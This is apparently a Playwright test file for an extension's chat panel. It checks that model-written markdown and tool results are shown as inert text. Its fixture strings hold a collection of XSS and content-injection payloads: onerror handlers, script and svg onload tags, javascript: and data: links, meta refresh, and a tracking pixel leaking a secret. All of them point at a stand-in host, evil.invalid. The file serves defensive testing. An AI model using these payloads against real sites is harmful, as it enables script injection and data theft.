"""What a model writes and what tools return is shown, never run: no script, no request by itself, no foreign markup."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from chat_panel import ChatPanel
from playwright.sync_api import Page, Request, expect

from webmcp_e2e.services.llm import Llm, ToolCall

pytestmark = [pytest.mark.requirement("panel.untrusted"), pytest.mark.webmcp_runtime("native")]

EVIL = "http://evil.invalid"
MARKUP = f"""\
Hello <img src="{EVIL}/tag.png" onerror="globalThis.hacked=1"><script>globalThis.hacked=2</script>

![pixel]({EVIL}/pixel.png?secret=page) ![x][ref] <svg onload="globalThis.hacked=3"></svg>

<iframe src="{EVIL}/frame"></iframe><style>* {{ background: url({EVIL}/style.png) }}</style>
<form action="{EVIL}/form"><input name=q></form><object data="{EVIL}/object"></object>
<link rel=stylesheet href="{EVIL}/link.css"><base href="{EVIL}/"><meta http-equiv=refresh content="0;url={EVIL}">

[script](javascript:globalThis.hacked=4) [data](data:text/html,<script>globalThis.hacked=5</script>)
[own](chrome-extension://{"a" * 32}/side-panel/index.html) <javascript:globalThis.hacked=6>
[good]({EVIL}/page "<b>title") and {EVIL}/bare

| cell |
|---|
| <img src="{EVIL}/cell.png" onerror="globalThis.hacked=7"> |

```html"><img src="{EVIL}/fence.png" onerror="globalThis.hacked=8">
</code></pre><img src="{EVIL}/code.png" onerror="globalThis.hacked=9">
```

[ref]: {EVIL}/reference.png
The end.
"""

ELEMENTS = """
() => {
  const found = [];
  const visit = (root, inAnswer) => {
    for (const element of root.querySelectorAll("*")) {
      const within = inAnswer || element.localName === "lumo-markdown";
      const [href, target, rel] = ["href", "target", "rel"].map((name) => element.getAttribute(name));
      found.push({tag: element.localName, within: inAnswer, href, target, rel});
      if (element.shadowRoot) visit(element.shadowRoot, within);
    }
  };
  visit(document.body, false);
  return {found, hacked: globalThis.hacked ?? null};
}
"""
PLAIN = {
    "div",
    "p",
    "h3",
    "strong",
    "em",
    "del",
    "a",
    "br",
    "hr",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
}
TABLE = {"table", "thead", "tbody", "tr", "th", "td"}


@pytest.fixture
def foreign_requests(chat: ChatPanel) -> Iterator[list[str]]:
    """Addresses that the panel has asked for, but for its own files and the model's server."""
    asked: list[str] = []

    def note(request: Request) -> None:
        if "evil" in (urlsplit(request.url).hostname or ""):
            asked.append(request.url)

    chat.panel.on("request", note)
    yield asked
    chat.panel.remove_listener("request", note)


def elements_of(panel: Page) -> list[dict[str, Any]]:
    """Every element of the panel, through all shadow roots; nothing of the model has run."""
    shown = panel.evaluate(ELEMENTS)
    assert shown["hacked"] is None, "something of the model's text ran"
    found: list[dict[str, Any]] = shown["found"]
    return found


def test_markdown_of_a_model_runs_nothing_and_loads_nothing(
    chat: ChatPanel, llm: Llm, foreign_requests: list[str]
) -> None:
    llm.reply(MARKUP)

    chat.ask("What do you say?")

    chat.expect_done("The end.")
    answer = [element for element in elements_of(chat.panel) if element["within"]]
    assert {element["tag"] for element in answer} <= PLAIN | TABLE
    links = [element for element in answer if element["tag"] == "a"]
    assert {urlsplit(link["href"]).scheme for link in links} == {"http"}
    assert {(link["target"], link["rel"]) for link in links} == {("_blank", "noopener noreferrer")}
    assert foreign_requests == []
    expect(chat.answer).to_contain_text("<script>globalThis.hacked=2</script>")


def test_arguments_and_results_stand_in_the_trace_as_text(
    chat: ChatPanel, llm: Llm, foreign_requests: list[str]
) -> None:
    hostile = f'<img src="{EVIL}/x.png" onerror="globalThis.hacked=1">'
    tool = next(name for name in chat.panel.evaluate("lumoPanel.tools()") if name.endswith("__echo"))
    llm.reply(ToolCall(tool, {"text": hostile}))
    llm.reply("Done.")

    chat.ask("Echo it.")

    chat.expect_done("Done.")
    call = chat.unfold(chat.calls.first)
    assert json.loads(call.get_by_test_id("call-arguments").inner_text()) == {"text": hostile}
    assert hostile in chat.result_of(call)
    elements_of(chat.panel)
    assert foreign_requests == []
